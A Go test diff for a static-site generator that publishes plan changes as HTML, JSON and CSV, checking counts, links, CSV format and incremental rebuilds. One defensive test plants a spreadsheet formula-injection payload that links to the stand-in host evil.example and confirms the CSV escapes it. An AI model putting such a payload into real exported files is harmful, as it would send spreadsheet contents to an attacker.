@@ -1,8 +1,14 @@
 package generator
 
 import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/plansite/plansite/generator/content"
@@ -71,5 +77,189 @@ func TestPlanChangesPrefix(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// changesDoc is a plan's changes.json.
+type changesDoc struct {
+	Plan    string `json:"plan"`
+	Changes []struct {
+		Date, Kind, Code, Title, Path, URL string
+		TextUK                             string `json:"text_uk"`
+		TextEN                             string `json:"text_en"`
+	} `json:"changes"`
+}
+
+// changesHeader are the columns changes.csv must have, in order.
+var changesHeader = "date,kind,measure,code,measure_text,state,before,period,due,indicator,value,note,amendment,title,path,url,text_uk,text_en"
+
+// TestChangesPagesAndData checks each plan's pages of changes against its
+// changes.json and the model, and the CSV against the JSON: every change
+// up to the build date and none after, as many on each month's and year's
+// page as the data has, each month listed on the first page, each state
+// change linking an entry of the measure's state history.
+func TestChangesPagesAndData(t *testing.T) {
+	for _, fs := range []*followSite{shippedFollowSite(t), buildFollowSite(t, filepath.Join("testdata", "sites", "small"))} {
+		asOf := fs.site.AsOf
+		for _, p := range fs.site.Plans {
+			want := model.PlanChanges(p, asOf)
+			var doc changesDoc
+			if err := json.Unmarshal(fs.files[p.ID+"/changes.json"], &doc); err != nil {
+				t.Fatalf("%s/changes.json: %v", p.ID, err)
+			}
+			if doc.Plan != p.ID || len(doc.Changes) != len(want) || len(want) == 0 {
+				t.Errorf("%s/changes.json: plan %q, %d changes; the model has %d", p.ID, doc.Plan, len(doc.Changes), len(want))
+				continue
+			}
+			checkChangesCSV(t, p.ID, fs.files[p.ID+"/changes.csv"], len(doc.Changes))
+			months, years := map[string]int{}, map[string]int{}
+			for i, c := range doc.Changes {
+				if c.Date > asOf.String() || i > 0 && c.Date > doc.Changes[i-1].Date {
+					t.Errorf("%s: change %d dated %s: after the build date or out of order", p.ID, i, c.Date)
+				}
+				if c.Date != want[i].Date.String() || c.Kind != want[i].Kind || c.TextUK == "" || c.TextEN == "" || c.Title == "" {
+					t.Errorf("%s: change %d: %+v, the model's %s %s", p.ID, i, c, want[i].Date, want[i].Kind)
+				}
+				months[c.Date[:7]]++
+				years[c.Date[:4]]++
+				if c.Kind == "state" {
+					checkStateAnchor(t, fs, c.Path)
+				}
+			}
+			for _, lang := range fs.site.Config.Languages {
+				dir := langPrefix(lang) + p.ID + "/changes/"
+				index := string(fs.files[dir+"index.html"])
+				for m, n := range months {
+					page := string(fs.files[dir+m+"/index.html"])
+					if got := strings.Count(page, `<li class="change change-`); got != n {
+						t.Errorf("%s%s/: %d changes listed, the data has %d", dir, m, got, n)
+					}
+					if !strings.Contains(index, `/changes/`+m+`/"`) {
+						t.Errorf("%sindex.html does not link the month %s", dir, m)
+					}
+				}
+				for y, n := range years {
+					if got := strings.Count(string(fs.files[dir+y+"/index.html"]), `<li class="change change-`); got != n {
+						t.Errorf("%s%s/: %d changes listed, the data has %d", dir, y, got, n)
+					}
+				}
+				if got := strings.Count(index, `class="change-months"`); got != len(years) {
+					t.Errorf("%sindex.html: %d years listed, want %d", dir, got, len(years))
+				}
+			}
+		}
+	}
+}
+
+// checkStateAnchor checks that the site path of a change of state names
+// an entry of the measure's state history.
+func checkStateAnchor(t *testing.T, fs *followSite, path string) {
+	t.Helper()
+	page, anchor, ok := strings.Cut(path, "#")
+	if !ok || !strings.HasPrefix(anchor, "state-") {
+		t.Errorf("change of state links %s: no #state- anchor", path)
+		return
+	}
+	if !strings.Contains(string(fs.files[strings.TrimPrefix(page, "/")+"index.html"]), `id="`+anchor+`"`) {
+		t.Errorf("change of state links %s: the page has no such entry", path)
+	}
+}
+
+// checkChangesCSV reads a changes.csv with a CSV parser: a byte order mark,
+// the header, rows rows.
+func checkChangesCSV(t *testing.T, plan string, data []byte, rows int) [][]string {
+	t.Helper()
+	body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
+	if !ok {
+		t.Errorf("%s/changes.csv: no byte order mark", plan)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatalf("%s/changes.csv: %v", plan, err)
+	}
+	if len(recs) != rows+1 || strings.Join(recs[0], ",") != changesHeader {
+		t.Errorf("%s/changes.csv: %d records, header %v; want %d rows", plan, len(recs), recs[0], rows)
+	}
+	return recs
+}
+
+// TestChangesCSVFormulaSafe gives a note a title a spreadsheet would run
+// as a formula: changes.csv writes it as text, changes.json as it is.
+func TestChangesCSVFormulaSafe(t *testing.T) {
+	root := copySiteAndTheme(t, filepath.Join("testdata", "sites", "small"))
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"клік")`
+	writeFile(t, root, "content/plans/town-2020/notes/2021-02-01-formula.md",
+		"+++\ndate = 2021-02-01\ntitle = '"+evil+"'\nmeasures = [\"i/1\"]\nstatus = \"виконано\"\nreporter = \"town-ssd\"\n+++\n\nЗвіт.\n")
+	res := generate(t, root, "2021-07-01")
+	var doc changesDoc
+	if err := json.Unmarshal(res.Files["town-2020/changes.json"], &doc); err != nil {
+		t.Fatal(err)
+	}
+	recs := checkChangesCSV(t, "town-2020", res.Files["town-2020/changes.csv"], len(doc.Changes))
+	found := false
+	for i, c := range doc.Changes {
+		if c.Title == evil {
+			found = true
+			if got := recs[i+1][13]; got != "'"+evil {
+				t.Errorf("changes.csv title cell %q: want it marked as text", got)
+			}
+		}
+	}
+	if !found {
+		t.Error("changes.json: the note's change is missing")
+	}
+}
+
+// TestChangesAdvanceDate builds the small site day after day into one
+// folder: a day without a change rewrites no page of changes, and a day
+// with one rewrites only its month's and year's pages, the list of months
+// and the data — older months stay as they were.
+func TestChangesAdvanceDate(t *testing.T) {
+	root := copySiteAndTheme(t, filepath.Join("testdata", "sites", "small"))
+	out := filepath.Join(t.TempDir(), "public")
+	ctx := context.Background()
+	day := mustDate(t, "2021-06-25")
+	if _, err := New(WithRoot(root), WithDate(day)).Build(ctx, out); err != nil {
+		t.Fatal(err)
+	}
+	all, _ := changesAsOf(t, root, mustDate(t, "2021-12-31"))
+	dated := map[string]bool{}
+	for _, c := range all["town-2020"] {
+		dated[c.Date.String()] = true
+	}
+	changedDays := 0
+	for i := 0; i < 40; i++ {
+		day = day.AddDays(1)
+		res, err := New(WithRoot(root), WithDate(day)).Build(ctx, out)
+		if err != nil {
+			t.Fatal(err)
+		}
+		d, month := day.String(), day.String()[:7]
+		allowed := map[string]bool{"town-2020/changes.csv": true, "town-2020/changes.json": true}
+		for _, lang := range []string{"", "en/"} {
+			for _, seg := range []string{"", month + "/", month[:4] + "/"} {
+				allowed[lang+"town-2020/changes/"+seg+"index.html"] = true
+			}
+		}
+		var written []string
+		for _, f := range res.Changed {
+			if strings.Contains(f, "/changes") {
+				written = append(written, f)
+				if !allowed[f] {
+					t.Errorf("%s: wrote %s, which shows no change of the day", d, f)
+				}
+			}
+		}
+		if dated[d] {
+			changedDays++
+			if !slices.Contains(written, "town-2020/changes/"+month+"/index.html") {
+				t.Errorf("%s: a change that day, and its month's page was not written (wrote %v)", d, written)
+			}
+		} else if len(written) > 0 {
+			t.Errorf("%s: no change that day, and wrote %v", d, written)
+		}
+	}
+	if changedDays == 0 {
+		t.Error("no day with a change: the test tests nothing")
 	}
 }
